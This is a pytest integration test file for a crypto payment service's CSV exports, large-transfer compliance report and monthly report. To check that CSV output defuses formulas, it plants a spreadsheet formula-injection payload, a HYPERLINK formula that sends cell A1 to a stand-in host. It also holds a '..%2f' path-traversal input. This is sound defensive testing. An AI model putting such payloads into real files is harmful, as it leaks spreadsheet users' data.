"""CSV exports, the large-transfer report and the monthly report through the real API
handlers on moto + anvil: the CSV parsed back with the csv module equals what the API
shows, the period is [from, to), a large export goes to the exports bucket (moto S3)
behind a pre-signed URL, and bad parameters are 4xx."""

from __future__ import annotations

import csv
import io
import json
import time
import urllib.request
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest

from shared import config
from shared.admin import merchants
from shared.local.stack import LocalStack
from shared.reports import exports, regulatory
from tests.integration.conftest import MerchantCreds
from tests.integration.helpers import (
    USDT,
    admin_call,
    make_final,
    merchant_call,
    scan,
)
from tests.integration.report_history import (
    History,
    history,
    new_sender,
    send,
    wait_next_second,
)

__all__ = ["history"]  # the module-scoped fixture


def rows_of(body: str) -> list[dict[str, str]]:
    """RFC 4180: CRLF line ends, a header row; parsed back by the csv module."""
    assert body.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(body, newline=""))
    return list(reader)


def header_of(body: str) -> list[str]:
    return next(csv.reader(io.StringIO(body, newline="")))


def export(h: History, name: str, start: int | None = None, end: int | None = None) -> Any:
    path = f"/v1/exports/{name}.csv?from={start or h.start}&to={end or h.end}"
    return merchant_call(h.merchant, "GET", path)


def test_payments_csv_matches_the_api(stack: LocalStack, history: History) -> None:
    # When the merchant exports its payments of the period
    reply = export(history, "payments")

    # Then a CSV attachment, the documented header, one row per payment, oldest first
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in reply.headers["Content-Disposition"]
    assert header_of(reply.body) == list(exports.PAYMENT_COLUMNS)
    rows = rows_of(reply.body)
    assert [r["payment_id"] for r in rows] == [p["id"] for p in history.payments]
    for row, api in zip(rows, history.payments, strict=True):
        assert row["merchant_id"] == history.merchant.merchant_id
        assert row["status"] == api["status"]
        assert row["amount"] == api["amount"]
        assert row["amount_received"] == api["amount_received"]
        assert row["amount_pending"] == api["amount_pending"]
        assert row["address"] == api["address"]
        assert int(row["created_at"]) == api["created_at"]
        assert int(row["expires_at"]) == api["expires_at"]
        assert row["created_at_utc"].endswith("Z")
        assert json.loads(row["metadata"]) == api["metadata"]
    # a formula-like order id is defused for spreadsheets; quotes and commas survive
    assert rows[0]["order_id"] == "'" + history.payments[0]["order_id"]
    assert json.loads(rows[0]["metadata"]) == {"cart": 'a,b "c"'}
    assert [r["status"] for r in rows][:2] == ["paid", "paid"]
    assert all(int(r["paid_at"]) >= int(r["created_at"]) for r in rows[:2])
    assert rows[2]["paid_at"] == ""  # the unpaid one


def test_transfers_csv_matches_the_payments_transactions(
    stack: LocalStack, history: History
) -> None:
    reply = export(history, "transfers")

    assert reply.status == 200, reply.body
    assert header_of(reply.body) == list(exports.TRANSFER_COLUMNS)
    rows = rows_of(reply.body)
    api = [(p["id"], t) for p in history.payments for t in p["transactions"]]
    assert len(rows) == len(api) == 2
    by_hash = {r["tx_hash"]: r for r in rows}
    for payment_id, t in api:
        row = by_hash[t["tx_hash"]]
        assert (row["payment_id"], row["amount"], row["sender"], row["status"]) == (
            payment_id,
            t["amount"],
            t["sender"],
            t["status"],
        )
        assert int(row["block_number"]) == t["block_number"]
        risk = t["risk"] or {"level": "", "source": ""}
        assert (row["risk_level"], row["risk_source"]) == (risk["level"], risk["source"])
        assert (row["hold"], row["late"]) == (t["hold"] or "", "false")
        assert int(row["log_index"]) == t["log_index"]
    first = by_hash[history.payments[0]["transactions"][0]["tx_hash"]]
    assert first["sender"] == history.sender.address.lower()


def test_settlements_and_refunds_csv_match_the_api(stack: LocalStack, history: History) -> None:
    for name, record in (("settlements", history.payout), ("refunds", history.refund)):
        reply = export(history, name)
        assert reply.status == 200, reply.body
        assert header_of(reply.body) == list(exports.DISBURSEMENT_COLUMNS)
        (row,) = rows_of(reply.body)
        for column in ("status", "gross", "fee", "network_fee", "amount", "destination"):
            assert row[column] == record[column], (name, column)
        assert row["id"] == record["id"]
        assert row["tx_hash"] == record["tx_hash"] and row["tx_hash"].startswith("0x")
        assert int(row["created_at"]) == record["created_at"]
    refund_row = rows_of(export(history, "refunds").body)[0]
    assert refund_row["payment_id"] == history.refund["payment_id"]


def test_the_period_is_from_inclusive_to_exclusive(stack: LocalStack, history: History) -> None:
    # Payments were all created before `credited`, the refund and payout after it
    before = rows_of(export(history, "payments", end=history.credited).body)
    after = rows_of(export(history, "payments", start=history.credited).body)
    assert len(before) == 3 and after == []
    assert rows_of(export(history, "refunds", end=history.credited).body) == []
    assert len(rows_of(export(history, "refunds", start=history.credited).body)) == 1
    # and an empty period is a header alone
    empty = export(history, "settlements", start=history.end, end=history.end + 60)
    assert empty.status == 200 and empty.body == ",".join(exports.DISBURSEMENT_COLUMNS) + "\r\n"
    # an ISO date works as a bound: today's date up to tomorrow's holds everything
    day = time.strftime("%Y-%m-%d", time.gmtime(history.start))
    dated = merchant_call(history.merchant, "GET", f"/v1/exports/payments.csv?from={day}")
    assert dated.status == 200 and len(rows_of(dated.body)) == 3


def test_another_merchant_sees_none_of_it(
    stack: LocalStack, history: History, merchant: MerchantCreds
) -> None:
    path = f"/v1/exports/payments.csv?from={history.start}&to={history.end}"
    assert rows_of(merchant_call(merchant, "GET", path).body) == []


@pytest.mark.parametrize(
    ("query", "status", "param"),
    [
        ("", 422, "from"),
        ("?from=yesterday", 422, "from"),
        ("?from=2026-02-30", 422, "from"),
        ("?from=1999-01-01", 422, "from"),
        ("?from=1800000000&to=1700000000", 422, "to"),
        ("?from=1700000000&to=" + "9" * 13, 422, None),
        ("?from=-5", 422, "from"),
    ],
)
def test_bad_periods_are_422(
    stack: LocalStack, merchant: MerchantCreds, query: str, status: int, param: str | None
) -> None:
    reply = merchant_call(merchant, "GET", f"/v1/exports/payments.csv{query}")
    assert reply.status == status, reply.body
    if param:
        assert reply.error["param"] == param


@pytest.mark.parametrize("name", ["payouts.csv", "payments.json", "payments.csv.csv", "..%2f"])
def test_unknown_exports_are_404(stack: LocalStack, merchant: MerchantCreds, name: str) -> None:
    reply = merchant_call(merchant, "GET", f"/v1/exports/{name}?from=2026-01-01")
    assert reply.status == 404, reply.body


def test_admin_export_is_the_same_file_and_needs_a_known_merchant(
    stack: LocalStack, history: History
) -> None:
    query = f"from={history.start}&to={history.end}"
    mine = export(history, "refunds").body
    mid = history.merchant.merchant_id
    reply = admin_call("GET", f"/admin/exports/refunds.csv?merchant_id={mid}&{query}")
    assert reply.status == 200, reply.body
    assert reply.body == mine
    # without merchant_id: every merchant's, ours among them
    everyone = admin_call("GET", f"/admin/exports/refunds.csv?{query}")
    assert everyone.status == 200, everyone.body
    ours = [r for r in rows_of(everyone.body) if r["merchant_id"] == mid]
    assert ours == rows_of(mine)
    assert admin_call("GET", f"/admin/exports/refunds.csv?merchant_id=mer_0&{query}").status == 404


@pytest.fixture
def inline_limit_one(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("BSCPAY_EXPORT_INLINE_ROWS", "1")
    config.reset()
    yield
    monkeypatch.undo()
    config.reset()


def test_a_large_export_goes_to_s3_behind_a_presigned_url(
    stack: LocalStack, history: History, inline_limit_one: None
) -> None:
    # Given exports of more than one row are not answered inline
    # When the merchant exports its three payments
    reply = export(history, "payments")

    # Then 303 See Other to a pre-signed URL, with the export object as JSON
    assert reply.status == 303, reply.body
    url = reply.headers["Location"]
    assert reply.body["url"] == url and reply.body["rows"] == 3
    assert "X-Amz-Signature=" in url and f"/exports/{history.merchant.merchant_id}/" in url
    # and the file there is the same CSV
    with urllib.request.urlopen(url) as got:  # moto's S3
        body = got.read().decode("utf-8")
    config.reset()
    assert [r["payment_id"] for r in rows_of(body)] == [p["id"] for p in history.payments]
    # and one row still answers inline
    single = export(history, "settlements")
    assert single.status == 200 and len(rows_of(single.body)) == 1


def test_export_row_cap_is_422(
    stack: LocalStack, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BSCPAY_EXPORT_MAX_ROWS", "2")
    config.reset()
    try:
        reply = export(history, "payments")
        assert reply.status == 422, reply.body
        assert reply.error["code"] == "export_too_large"
    finally:
        monkeypatch.undo()
        config.reset()


# ---- large transfers ------------------------------------------------------------------------


def test_large_transfer_report_lists_single_and_per_sender_day_totals(stack: LocalStack) -> None:
    # Given three fresh senders paying one merchant: 60 at once, 30 + 25 in two, and 10
    shop, _, _ = merchants.create_merchant("Large Transfers Shop")
    creds = MerchantCreds(shop.merchant_id, "", "")
    big, splitter, small = (new_sender(stack) for _ in range(3))
    start = int(time.time())
    plan = [(big, "60"), (splitter, "30"), (splitter, "25"), (small, "10")]
    hashes: dict[str, tuple[str, str]] = {}
    for sender, usdt in plan:
        payment = _payment_for(shop.merchant_id, usdt)
        tx = send(stack, sender.key, payment["address"], int(Decimal(usdt) * USDT))
        hashes[tx.lower()] = (sender.address.lower(), payment["id"])
    make_final(stack)
    scan()
    end = int(time.time()) + 1
    ours = {big.address.lower(), splitter.address.lower(), small.address.lower()}

    # When compliance asks for transfers of 50 USDT or more
    query = f"from={start}&to={end}&threshold=50"
    reply = admin_call("GET", f"/admin/reports/large_transfers?{query}")

    # Then the 60 is listed alone, the 30 and 25 as a daily total of 55; the 10 is not
    assert reply.status == 200, reply.body
    assert reply.body["threshold"] == "50"
    rows = [r for r in reply.body["data"] if r["sender"] in ours]
    got = sorted((r["sender"], r["amount"], r["reason"], r["sender_day_total"]) for r in rows)
    assert got == sorted(
        [
            (big.address.lower(), "60", "single", "60"),
            (splitter.address.lower(), "30", "daily_total", "55"),
            (splitter.address.lower(), "25", "daily_total", "55"),
        ]
    )
    for r in rows:
        assert hashes[r["tx_hash"].lower()] == (r["sender"], r["payment_id"])
        assert r["merchant_id"] == creds.merchant_id
        assert r["merchant_name"] == "Large Transfers Shop"
        assert r["sender_day_count"] == (2 if r["sender"] == splitter.address.lower() else 1)

    # and the CSV holds the same rows
    as_csv = admin_call("GET", f"/admin/reports/large_transfers?{query}&format=csv")
    assert as_csv.status == 200, as_csv.body
    assert header_of(as_csv.body) == list(regulatory.LARGE_TRANSFER_COLUMNS)
    csv_rows = [r for r in rows_of(as_csv.body) if r["sender"] in ours]
    assert [(r["tx_hash"], r["reason"], r["amount"]) for r in csv_rows] == [
        (r["tx_hash"], r["reason"], r["amount"]) for r in rows
    ]

    # and above 60 nothing of ours is listed
    higher = admin_call("GET", f"/admin/reports/large_transfers?from={start}&to={end}&threshold=61")
    assert [r for r in higher.body["data"] if r["sender"] in ours] == []


FORMULA_NAME = '=HYPERLINK("http://x/?"&A1,"click")'


def test_a_sender_day_total_is_the_whole_utc_day_and_names_are_defused(stack: LocalStack) -> None:
    # Given a merchant whose name is a formula, and a sender paying it 30 then, a second
    # later, 25 (the same UTC day)
    shop, _, _ = merchants.create_merchant(FORMULA_NAME)
    splitter = new_sender(stack)
    start = int(time.time())
    for usdt in ("30", "25"):
        payment = _payment_for(shop.merchant_id, usdt)
        send(stack, splitter.key, payment["address"], int(Decimal(usdt) * USDT))
        make_final(stack)
        scan()
        wait_next_second()
    end = int(time.time()) + 1
    ours = splitter.address.lower()
    both = admin_call("GET", f"/admin/reports/large_transfers?from={start}&to={end}&threshold=50")
    rows = [r for r in both.body["data"] if r["sender"] == ours]
    assert sorted(r["amount"] for r in rows) == ["25", "30"], both.body
    first, second = sorted(rows, key=lambda r: r["seen_at"])
    assert first["seen_at"] < second["seen_at"]
    if first["day"] != second["day"]:
        pytest.skip("the two transfers straddle midnight UTC")

    # When compliance asks for a period starting between them (unix seconds mid-day)
    query = f"from={second['seen_at']}&to={end}&threshold=50"
    reply = admin_call("GET", f"/admin/reports/large_transfers?{query}")

    # Then the 25 is listed with the whole day's total, the 30 before `from` included
    assert reply.status == 200, reply.body
    (row,) = [r for r in reply.body["data"] if r["sender"] == ours]
    assert (row["amount"], row["reason"]) == ("25", "daily_total")
    assert (row["sender_day_total"], row["sender_day_count"]) == ("55", 2)
    assert row["merchant_name"] == FORMULA_NAME  # JSON is not a spreadsheet

    # and the CSV cannot run the merchant's name as a formula
    as_csv = admin_call("GET", f"/admin/reports/large_transfers?{query}&format=csv")
    (csv_row,) = [r for r in rows_of(as_csv.body) if r["sender"] == ours]
    assert csv_row["merchant_name"] == "'" + FORMULA_NAME
    month = time.strftime("%Y-%m", time.gmtime(start))
    monthly = admin_call("GET", f"/admin/reports/monthly?month={month}&format=csv")
    assert monthly.status == 200, monthly.body
    (mine,) = [r for r in rows_of(monthly.body) if r["merchant_id"] == shop.merchant_id]
    assert mine["merchant_name"] == "'" + FORMULA_NAME


def test_the_large_transfer_report_checks_its_deadline_while_skipping(
    stack: LocalStack, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a budget nobody can meet and a threshold no transfer reaches (no row out)
    monkeypatch.setenv("BSCPAY_EXPORT_MAX_SECONDS", "0.000001")
    config.reset()
    query = f"from={history.start}&to={history.end}&threshold=1000000000"
    try:
        for fmt in ("json", "csv"):
            reply = admin_call("GET", f"/admin/reports/large_transfers?{query}&format={fmt}")
            # Then a clear 422 asking for a shorter period, not a gateway timeout
            assert reply.status == 422, reply.body
            assert reply.error["code"] == "report_too_large"
    finally:
        monkeypatch.undo()
        config.reset()


def test_admin_exports_and_reports_are_audited(stack: LocalStack, history: History) -> None:
    mid = history.merchant.merchant_id
    query = f"from={history.start}&to={history.end}"
    assert admin_call("GET", f"/admin/exports/payments.csv?merchant_id={mid}&{query}").status == 200
    assert admin_call("GET", f"/admin/exports/refunds.csv?{query}").status == 200
    assert admin_call("GET", f"/admin/reports/large_transfers?{query}").status == 200

    def records(kind: str) -> list[dict[str, Any]]:
        path = f"/admin/audit?target=export:{kind}&action=export.created"
        found = admin_call("GET", path)
        assert found.status == 200, found.body
        return [r["after"] for r in found.body["data"]]

    payments = [a for a in records("payments") if a["merchant_id"] == mid]
    assert payments and payments[0]["rows"] == 3 and payments[0]["delivery"] == "inline"
    assert (payments[0]["from"], payments[0]["to"]) == (history.start, history.end)
    assert any(a["merchant_id"] is None for a in records("refunds"))  # every merchant's
    assert any(a["delivery"] == "json" for a in records("large_transfers"))
    # a merchant's own export is not an admin's: no record names it
    before = len(records("settlements"))
    assert export(history, "settlements").status == 200
    assert len(records("settlements")) == before


def _payment_for(merchant_id: str, usdt: str) -> dict[str, Any]:
    from shared.payments import service as payments

    p = payments.create(merchant_id, payments.NewPayment(amount=int(Decimal(usdt) * USDT)))
    return {"id": p.payment_id, "address": p.address}


@pytest.mark.parametrize(
    "query",
    [
        "threshold=abc&from=1700000000",
        "threshold=-1&from=1700000000",
        "threshold=0&from=1700000000",
        "from=1700000000&format=xml",
        "threshold=50",
    ],
)
def test_large_transfer_report_refuses_bad_input(stack: LocalStack, query: str) -> None:
    reply = admin_call("GET", f"/admin/reports/large_transfers?{query}")
    assert reply.status == 422, reply.body


# ---- monthly ---------------------------------------------------------------------------------


def test_monthly_report_has_a_row_per_merchant_as_json_and_csv(
    stack: LocalStack, history: History
) -> None:
    month = time.strftime("%Y-%m", time.gmtime(history.start))
    reply = admin_call("GET", f"/admin/reports/monthly?month={month}")
    assert reply.status == 200, reply.body
    assert reply.body["month"] == month
    (mine,) = [r for r in reply.body["data"] if r["merchant_id"] == history.merchant.merchant_id]
    assert mine["merchant_name"] == "Reports Shop"
    assert mine["payments_created"] == 3
    assert mine["payments_paid"] == 2
    assert mine["gross_received"] == "16"

    as_csv = admin_call("GET", f"/admin/reports/monthly?month={month}&format=csv")
    assert as_csv.status == 200, as_csv.body
    assert header_of(as_csv.body)[:4] == [
        "month",
        "merchant_id",
        "merchant_name",
        "payments_created",
    ]
    (row,) = [r for r in rows_of(as_csv.body) if r["merchant_id"] == history.merchant.merchant_id]
    assert row["payments_created"] == "3" and row["gross_received"] == "16"


@pytest.mark.parametrize("month", ["", "2026-13", "2026-1", "26-01", "2019-12", "abcd-ef"])
def test_monthly_report_refuses_a_bad_month(stack: LocalStack, month: str) -> None:
    reply = admin_call("GET", f"/admin/reports/monthly?month={month}")
    assert reply.status == 422, reply.body
